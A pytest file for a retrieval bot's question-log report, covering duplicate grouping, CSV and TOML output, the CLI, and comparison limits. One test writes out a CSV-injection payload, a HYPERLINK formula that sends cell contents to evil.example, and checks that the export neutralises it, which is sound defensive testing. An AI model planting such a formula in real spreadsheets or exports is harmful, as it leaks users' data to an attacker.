"""The report of what the sources don't cover, from a question log written as the bot writes it."""

from __future__ import annotations

import csv
import io
import json
import random
import sqlite3
import time
import tomllib
from pathlib import Path

import pytest

from retrieval import RetrievalError
from retrieval.benchmarks.report import synthetic_questions
from retrieval.cli.cli import main
from retrieval.questions import report as question_report
from retrieval.questions.log import SCHEMA, Asked
from retrieval.questions.report import group, report_from_file

DAY = 86400


def asked(question: str, covered: bool = True, down: int = 0, at: float = 0.0) -> Asked:
    return Asked(question, at, covered, ["[Robert Park, ¶8]"] if covered else [], 0, down)


def test_near_duplicates_are_grouped_and_different_questions_are_not():
    groups = group([asked("Who founded NAUH?", at=1), asked("who founded nauh", at=2),
                    asked("Who founded NAUH then?", at=3), asked("When was NAUH founded?", at=4),
                    asked("How many refugees has NAUH resettled?", at=5),
                    asked("How many refugees did NAUH resettle?", at=6)])
    assert [(g.question, g.times) for g in groups] == [("Who founded NAUH?", 3), ("When was NAUH founded?", 1),
                                                        ("How many refugees has NAUH resettled?", 2)]


def write_log(path: Path, now: float) -> None:
    db = sqlite3.connect(path)
    db.executescript(SCHEMA)
    rows = [("How do I reset my password?", "[]", now - 60), ("how do I reset my password", "[]", now - 50),
            ("How many refugees has NAUH resettled?", json.dumps([{"citation": "[Robert Park, ¶8]"}]), now - 40),
            ("How many refugees did NAUH resettle?", json.dumps([{"citation": "[Robert Park, ¶8]"}]), now - 30),
            ("Who won the 2018 World Cup?", "[]", now - 40 * DAY)]  # outside the period
    for question, passages, at in rows:
        db.execute("INSERT INTO answers (asked_at, question, passages, guild_id, channel_id) VALUES (?, ?, ?, 1, 2)",
                   (at, question, passages))
    db.execute("INSERT INTO votes VALUES (3, 77, -1, ?)", (now,))
    db.commit()
    db.close()


def test_the_report_lists_what_was_not_covered_voted_down_and_asked_most(tmp_path: Path):
    log = tmp_path / "feedback.sqlite"
    write_log(log, time.time())
    found = report_from_file(log, days=30)
    assert found.questions == 4
    assert [(g.question, g.times) for g in found.not_covered] == [("How do I reset my password?", 2)]
    assert [(g.question, g.down) for g in found.voted_down] == [("How many refugees has NAUH resettled?", 1)]
    assert {g.question for g in found.most_asked} == {"How do I reset my password?",
                                                      "How many refugees has NAUH resettled?"}
    rows = list(csv.DictReader(io.StringIO(found.csv())))
    assert rows[0] == {"part": "not covered", "question": "How do I reset my password?", "times": "2",
                       "variants": "How do I reset my password? | how do I reset my password", "down_votes": "0",
                       "shown": ""}
    gold = tomllib.loads(found.gold())["question"]
    assert [q["q"] for q in gold] == ["How do I reset my password?", "How many refugees has NAUH resettled?"]
    assert all(q["expect"] == [] for q in gold)


def test_eval_feedback_prints_the_report(tmp_path: Path, capsys):
    log = tmp_path / "feedback.sqlite"
    write_log(log, time.time())
    assert main(["eval", "--feedback", str(log), "--days", "30"]) == 0
    out = capsys.readouterr().out
    assert "4 questions in the last 30 days" in out and "  2x  How do I reset my password?" in out
    assert main(["eval", "--feedback", str(log), "--days", "30", "--csv"]) == 0
    assert capsys.readouterr().out.startswith('"part","question","times","variants","down_votes","shown"')
    assert main(["eval", "--feedback", str(tmp_path / "none.sqlite")]) == 1
    assert "question log" in capsys.readouterr().err


def test_a_file_that_is_not_a_log_is_one_error(tmp_path: Path):
    bad = tmp_path / "bad.sqlite"
    bad.write_text("not a database")
    with pytest.raises(RetrievalError, match="cannot be read"):
        report_from_file(bad, 30)


def grouped_comparing_every_pair(questions: list[Asked]) -> list[list[str]]:
    """What grouping means, the slow way: each question joins the first group whose first question it is close to."""
    groups: list[tuple[frozenset[str], list[str]]] = []
    for item in sorted(questions, key=lambda a: a.asked_at):
        found = question_report.words(item.question)
        home = next((members for key, members in groups if question_report.similar(key, found)), None)
        if home is None:
            home = []
            groups.append((found, home))
        home.append(item.question)
    return [members for _, members in groups]


def test_grouping_finds_what_comparing_every_pair_finds():
    questions = [asked(q, at=n) for n, q in enumerate(synthetic_questions(1000, seed=7))]
    questions += [asked(q, at=1000 + n) for n, q in enumerate(["?", "the?", "Who founded NAUH?", "who founded nauh",
                                                               "Who founded NAUH then?", "When was NAUH founded?"])]
    found = [[a.question for a in g.asked] for g in group(questions)]
    expected = grouped_comparing_every_pair(questions)
    assert found == expected
    assert sum(len(g) > 1 for g in found) > 200  # the log does hold near-duplicates to find (234 groups)


@pytest.mark.parametrize("question", ["delete\x7f me?", "tab\tand\nnewline?", 'quote " and \\ backslash?',
                                      "bell\x07 and escape\x1b?", "'''single''' \"\"\"triple\"\"\"?",
                                      "emoji 🙂 and ñ?"])
def test_candidate_gold_reads_back_as_the_question_asked(question: str):
    found = question_report.report([asked(question, covered=False, at=1)], days=30)
    gold = tomllib.loads(found.gold())
    assert gold["question"] == [{"q": question, "expect": [], "kind": "direct"}]
    assert "# from the log: not covered, asked 1x" in found.gold()


def test_grouping_of_template_questions_of_every_length_finds_what_comparing_every_pair_finds():
    """Where the length and position filters decide: one template's questions, shorter and longer forms of it,
    numbers that come again (near-duplicates), each compared with the slow way."""
    rng = random.Random(13)
    forms = ["What is the status of order {o}?", "What is the status of order {o} for customer {c}?",
             "Status of order {o} for customer {c} shipped to {c} street?", "order {o} customer {c}",
             "What is the delivery status of order {o} for customer {c} today?"]
    questions = [asked(rng.choice(forms).format(o=rng.randrange(40), c=rng.randrange(40)), at=n) for n in range(600)]
    found = [[a.question for a in g.asked] for g in group(questions)]
    assert found == grouped_comparing_every_pair(questions)
    assert sum(len(g) > 1 for g in found) > 40  # near-duplicates to find (46 groups)


@pytest.fixture
def comparisons(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """A one-item list counting the calls of question_report.similar, the pairwise comparison grouping makes."""
    compared = [0]
    similar = question_report.similar

    def counted(a, b):
        compared[0] += 1
        return similar(a, b)

    monkeypatch.setattr(question_report, "similar", counted)
    return compared


def test_grouping_compares_a_question_with_a_few_groups_not_all(comparisons: list[int]):
    questions = [asked(q, at=n) for n, q in enumerate(synthetic_questions(5000, seed=3))]
    group(questions)
    assert comparisons[0] < 20 * len(questions)  # comparing with every group before would be thousands each


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_report_csv_holds_no_live_formula(start: str):
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    found = question_report.report([asked(hostile, covered=False, at=1), asked(hostile, covered=False, at=2)], days=30)
    text = found.csv()
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[1] for row in rows[1:]] == [f"'{hostile}"] * 2  # not covered, and most asked
    assert all(row[3] == f"'{hostile}" for row in rows[1:])  # the variants too
    assert text.splitlines()[1].startswith('"not covered","\'')  # every cell quoted, as OWASP advises


def test_questions_from_one_template_are_compared_with_few_groups(comparisons: list[int]):
    """Questions alike but for their rare words ("order 1234 for customer 56") are not near-duplicates: each is a
    group, all filed under the template's common pair of words. Those groups are too alike in length and position
    of that pair to be close to the question, and are not compared (before: the cap, 200 each; /report over a
    log of 100,000 such took 81 s)."""
    rng = random.Random(11)
    orders, customers = rng.sample(range(10**5, 10**6), 3000), rng.sample(range(10**4), 3000)  # no number twice
    questions = [asked(f"What is the status of order {order} for customer {customer}?", at=n)
                 for n, (order, customer) in enumerate(zip(orders, customers, strict=True))]
    groups = group(questions)
    assert len(groups) == len({question_report.words(a.question) for a in questions})  # none near-duplicates
    assert comparisons[0] <= len(questions)


def test_a_log_built_to_defeat_the_filter_compares_at_most_the_cap(comparisons: list[int]):
    rng = random.Random(5)
    vocabulary = [f"word{n}" for n in range(30)]  # few words in many combinations: every pair is common
    questions = [asked(" ".join(rng.sample(vocabulary, 8)), at=n) for n in range(1500)]
    group(questions)
    assert comparisons[0] <= question_report.MAX_COMPARED * len(questions)
    assert comparisons[0] > 20 * len(questions)  # the filter does not help here: the cap is what bounds it
